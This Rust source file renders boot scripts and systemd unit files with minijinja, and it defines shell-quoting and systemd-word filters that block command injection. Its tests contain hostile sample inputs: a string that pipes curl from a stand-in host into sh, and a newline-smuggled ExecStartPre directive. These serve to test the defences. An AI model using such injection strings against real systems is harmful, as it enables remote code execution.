//! Text files rendered at synth time (boot scripts, unit files, config
//! files) with minijinja, from sources embedded in the binary.
//!
//! Owns the rendering rules: no HTML escaping, undefined variables are
//! errors (a typo must not become an empty string in a boot script), every
//! error names the template file and line, and the two escaping filters
//! every template gets:
//!
//! - `shell_quote`: a value as one POSIX shell word that the shell reads
//!   back as exactly that value (single quotes; see [`shell_quote`]);
//! - `systemd_word`: a value placed verbatim in a systemd unit file, which
//!   has no quoting that works in every directive, so anything beyond plain
//!   letters, digits and `-._/:` is refused (see [`systemd_word`]).
//!
//! Configuration is checked before it gets here; the filters are the second
//! wall, so that a value that slips past a check still cannot become a
//! command. It does not know what the text is for or where it goes in the
//! template.

use minijinja::value::ValueKind;
use minijinja::{AutoEscape, Environment, ErrorKind, UndefinedBehavior, syntax::SyntaxConfig};

use crate::error::SynthError;

pub use minijinja::Value;
pub use minijinja::context;

/// A set of named text templates, compiled once.
///
/// Names are the files' paths in the source tree
/// (`templates/swiftcode/user-data.sh.j2`), so that errors point at the file
/// to edit; sources come from `include_str!`, so the binary works from any
/// directory:
///
/// ```
/// use hagen::blueprint::text::{TextTemplates, context};
///
/// let t = TextTemplates::new(&[("motd.j2", "Welcome to {{ env }}\n")])?;
/// assert_eq!(t.render("motd.j2", context! { env => "stage" })?, "Welcome to stage\n");
/// # Ok::<(), hagen::error::SynthError>(())
/// ```
#[derive(Debug)]
pub struct TextTemplates {
    env: Environment<'static>,
}

impl TextTemplates {
    /// Compiles `(name, source)` pairs. Templates may `{% include %}` each
    /// other by name. Blocks are trimmed (`trim_blocks`, `lstrip_blocks`), so
    /// `{% if %}` lines leave no blank lines behind, and a final newline is kept.
    pub fn new(files: &[(&'static str, &'static str)]) -> Result<Self, SynthError> {
        let mut env = Environment::new();
        let syntax = SyntaxConfig::builder()
            .trim_blocks(true)
            .lstrip_blocks(true)
            .keep_trailing_newline(true)
            .build()
            .map_err(|e| error("(syntax settings)", &e))?;
        env.set_syntax(syntax);
        env.set_undefined_behavior(UndefinedBehavior::Strict);
        env.set_auto_escape_callback(|_| AutoEscape::None);
        env.add_filter("shell_quote", shell_quote_filter);
        env.add_filter("systemd_word", systemd_word_filter);
        for (name, source) in files {
            env.add_template(name, source)
                .map_err(|e| error(name, &e))?;
        }
        Ok(TextTemplates { env })
    }

    /// Renders one template with a context (`context! { key => value }`).
    pub fn render(&self, name: &str, context: Value) -> Result<String, SynthError> {
        let template = self.env.get_template(name).map_err(|e| error(name, &e))?;
        template.render(context).map_err(|e| error(name, &e))
    }
}

/// Quotes `value` as one POSIX shell word: the shell (`sh`, `bash`) reads
/// it back as exactly `value`, whatever it holds, with no expansion of
/// `$`, backquotes, globs or anything else. In templates: `{{ x | shell_quote }}`.
///
/// The value goes between single quotes, inside which the shell gives no
/// character a meaning; a single quote itself cannot appear there, so each
/// one closes the quotes, adds a backslash-escaped quote and reopens them
/// (`it's` becomes `'it'\''s'`). `None` for a value holding a NUL byte,
/// which no shell word can carry.
///
/// A quoted value may still span lines. Inside a quoted here-document
/// (`<<'EOF'`) a line that is exactly the delimiter would end it early, so
/// text destined for one must come from values without line breaks.
pub fn shell_quote(value: &str) -> Option<String> {
    if value.contains('\0') {
        return None;
    }
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    Some(out)
}

/// Whether `c` may stand in a systemd unit file as it is: ASCII letters,
/// digits and `-._/:`. Everything else means something somewhere in unit
/// syntax: whitespace separates words, quotes and `\` quote, `%` starts a
/// specifier, `$` expands a variable, `;` separates commands, a line break
/// starts a new directive.
pub fn is_systemd_word_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_' | '/' | ':')
}

/// `value` unchanged if systemd reads it as plain text in any directive of
/// a unit file (a non-empty run of [`is_systemd_word_char`] characters),
/// else why not. In templates: `{{ x | systemd_word }}`, which fails the
/// rendering otherwise.
///
/// Refusing rather than quoting: systemd's quotes work only around whole
/// words of command lines, still expand `%` and `$` inside them, and mean
/// nothing in directives such as `Requires=` or `WorkingDirectory=`.
pub fn systemd_word(value: &str) -> Result<&str, String> {
    if value.is_empty() {
        return Err("it is empty".to_owned());
    }
    match value.chars().find(|c| !is_systemd_word_char(*c)) {
        Some(c) => Err(format!(
            "{c:?} is not allowed; only letters, digits and -._/: are"
        )),
        None => Ok(value),
    }
}

/// The text of a value a filter escapes: strings as they are, integers in
/// decimal; anything else (booleans, lists, none) is a template mistake.
fn filter_text(filter: &str, value: &Value) -> Result<String, minijinja::Error> {
    match value.kind() {
        ValueKind::String => Ok(value.as_str().unwrap_or_default().to_owned()),
        ValueKind::Number if value.is_integer() => Ok(value.to_string()),
        kind => Err(minijinja::Error::new(
            ErrorKind::InvalidOperation,
            format!("{filter} takes a string or an integer, not {kind}"),
        )),
    }
}

fn shell_quote_filter(value: &Value) -> Result<String, minijinja::Error> {
    let text = filter_text("shell_quote", value)?;
    shell_quote(&text).ok_or_else(|| {
        minijinja::Error::new(
            ErrorKind::InvalidOperation,
            "shell_quote: the value holds a NUL byte, which no shell word can carry",
        )
    })
}

fn systemd_word_filter(value: &Value) -> Result<String, minijinja::Error> {
    let text = filter_text("systemd_word", value)?;
    match systemd_word(&text) {
        Ok(word) => Ok(word.to_owned()),
        Err(why) => Err(minijinja::Error::new(
            ErrorKind::InvalidOperation,
            format!("systemd_word: {text:?} is not plain text for a unit file: {why}"),
        )),
    }
}

/// A minijinja error as a synth error naming the file (the innermost
/// template, for errors inside an include) and line.
fn error(name: &str, outer: &minijinja::Error) -> SynthError {
    // An error inside an include is the source of an "error in" error at the
    // include line: report the innermost one, which is where the fix goes.
    let mut e = outer;
    let mut next = std::error::Error::source(e);
    while let Some(source) = next {
        if let Some(inner) = source.downcast_ref::<minijinja::Error>() {
            e = inner;
        }
        next = source.source();
    }
    let template = e.name().unwrap_or(name).to_owned();
    let what = match e.detail() {
        Some(detail) => format!("{}: {detail}", e.kind()),
        None => e.kind().to_string(),
    };
    let message = match e.line() {
        Some(line) => format!("line {line}: {what}"),
        None => what,
    };
    SynthError::TextTemplate { template, message }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_undefined_variable_is_an_error_naming_file_and_line() {
        let t = TextTemplates::new(&[("templates/x.sh.j2", "#!/bin/sh\necho {{ nope }}\n")])
            .expect("compiles");
        let err = t
            .render("templates/x.sh.j2", context! {})
            .expect_err("undefined");
        let SynthError::TextTemplate { template, message } = err else {
            panic!("text template error expected")
        };
        assert_eq!(template, "templates/x.sh.j2");
        assert!(message.starts_with("line 2:"), "{message}");
    }

    #[test]
    fn a_syntax_error_is_reported_at_compile_time_with_the_line() {
        let err = TextTemplates::new(&[("a.j2", "ok\n{% if %}\n")]).expect_err("bad syntax");
        assert!(err.to_string().contains("a.j2"), "{err}");
        assert!(err.to_string().contains("line 2"), "{err}");
    }

    #[test]
    fn an_error_inside_an_include_names_the_included_file() {
        let t = TextTemplates::new(&[
            ("outer.j2", "a\n{% include \"inner.j2\" %}\n"),
            ("inner.j2", "b\n\n{{ missing }}\n"),
        ])
        .expect("compiles");
        let err = t.render("outer.j2", context! {}).expect_err("undefined");
        let SynthError::TextTemplate { template, message } = err else {
            panic!("text template error expected")
        };
        assert_eq!(template, "inner.j2");
        assert!(message.starts_with("line 3:"), "{message}");
    }

    #[test]
    fn shell_text_is_not_html_escaped_and_blocks_leave_no_blank_lines() {
        let t = TextTemplates::new(&[(
            "s.sh.j2",
            "{% if on %}\necho \"<{{ v }}>\" && true\n{% endif %}\ndone\n",
        )])
        .expect("compiles");
        let out = t
            .render("s.sh.j2", context! { on => true, v => "a&b" })
            .expect("renders");
        assert_eq!(out, "echo \"<a&b>\" && true\ndone\n");
    }

    #[test]
    fn shell_quote_wraps_in_single_quotes_and_escapes_single_quotes() {
        assert_eq!(shell_quote("stage").as_deref(), Some("'stage'"));
        assert_eq!(shell_quote("").as_deref(), Some("''"));
        assert_eq!(shell_quote("it's").as_deref(), Some(r"'it'\''s'"));
        assert_eq!(
            shell_quote("/x\"; curl https://evil.example | sh; \"").as_deref(),
            Some("'/x\"; curl https://evil.example | sh; \"'")
        );
        assert_eq!(shell_quote("a\0b"), None, "no shell word carries a NUL");
    }

    /// What `/bin/sh` prints for `printf '%s' <word>`: the word as the
    /// shell reads it.
    fn shell_reads(word: &str) -> Vec<u8> {
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(format!("printf '%s' {word}"))
            .output()
            .expect("/bin/sh runs");
        assert!(out.status.success(), "sh failed on {word:?}: {out:?}");
        out.stdout
    }

    #[test]
    fn the_filters_are_registered_and_the_shell_reads_the_value_back() {
        let t = TextTemplates::new(&[(
            "s.sh.j2",
            "printf '%s' {{ v | shell_quote }}{{ port | shell_quote }}\n",
        )])
        .expect("compiles");
        let hostile = "/\"; curl https://evil.example/x | sh; echo \"$(id)`id`'";
        let script = t
            .render("s.sh.j2", context! { v => hostile, port => 9000 })
            .expect("renders");
        let out = std::process::Command::new("/bin/sh")
            .arg("-c")
            .arg(&script)
            .output()
            .expect("/bin/sh runs");
        assert_eq!(
            String::from_utf8_lossy(&out.stdout),
            format!("{hostile}9000")
        );
    }

    #[test]
    fn shell_quote_refuses_what_is_not_text() {
        let t = TextTemplates::new(&[("b.sh.j2", "x={{ v | shell_quote }}\n")]).expect("compiles");
        let err = t
            .render("b.sh.j2", context! { v => true })
            .expect_err("a boolean is a template mistake");
        assert!(
            err.to_string().contains("shell_quote takes a string"),
            "{err}"
        );
        let err = t
            .render("b.sh.j2", context! { v => "a\0b" })
            .expect_err("NUL");
        assert!(err.to_string().contains("NUL"), "{err}");
    }

    #[test]
    fn systemd_word_passes_plain_text_and_refuses_the_rest_naming_file_and_line() {
        assert_eq!(systemd_word("swiftcode"), Ok("swiftcode"));
        assert_eq!(
            systemd_word("leto.wsgi:application"),
            Ok("leto.wsgi:application")
        );
        assert_eq!(systemd_word("/opt/leto"), Ok("/opt/leto"));
        for bad in [
            "",
            "a b",
            "50%n",
            "$HOME",
            "x\nExecStartPre=/bin/sh -c id",
            "a;b",
            "'q'",
        ] {
            assert!(systemd_word(bad).is_err(), "{bad:?} must be refused");
        }
        let t = TextTemplates::new(&[(
            "u.service.j2",
            "[Service]\nWorkingDirectory={{ home | systemd_word }}\nExecStart=/bin/true {{ port | systemd_word }}\n",
        )])
        .expect("compiles");
        assert_eq!(
            t.render(
                "u.service.j2",
                context! { home => "/opt/app", port => 8000 }
            )
            .expect("renders"),
            "[Service]\nWorkingDirectory=/opt/app\nExecStart=/bin/true 8000\n"
        );
        let err = t
            .render(
                "u.service.j2",
                context! { home => "/opt/app\nExecStartPre=/bin/sh -c id", port => 8000 },
            )
            .expect_err("a line break would start a new directive");
        let SynthError::TextTemplate { template, message } = err else {
            panic!("text template error expected")
        };
        assert_eq!(template, "u.service.j2");
        assert!(message.starts_with("line 2:"), "{message}");
        assert!(message.contains("'\\n' is not allowed"), "{message}");
    }

    proptest::proptest! {
        #[test]
        fn the_shell_reads_any_quoted_string_back_exactly(
            value in "(?s)[^\x00]{0,48}",
        ) {
            let quoted = shell_quote(&value).expect("no NUL");
            proptest::prop_assert_eq!(shell_reads(&quoted), value.as_bytes());
        }

        #[test]
        fn the_shell_reads_strings_of_its_own_metacharacters_back_exactly(
            value in "['\"$`\\;&|<>(){}*?!#~ \n\t=a-z%-]{0,32}",
        ) {
            let quoted = shell_quote(&value).expect("no NUL");
            proptest::prop_assert_eq!(shell_reads(&quoted), value.as_bytes());
        }
    }
}
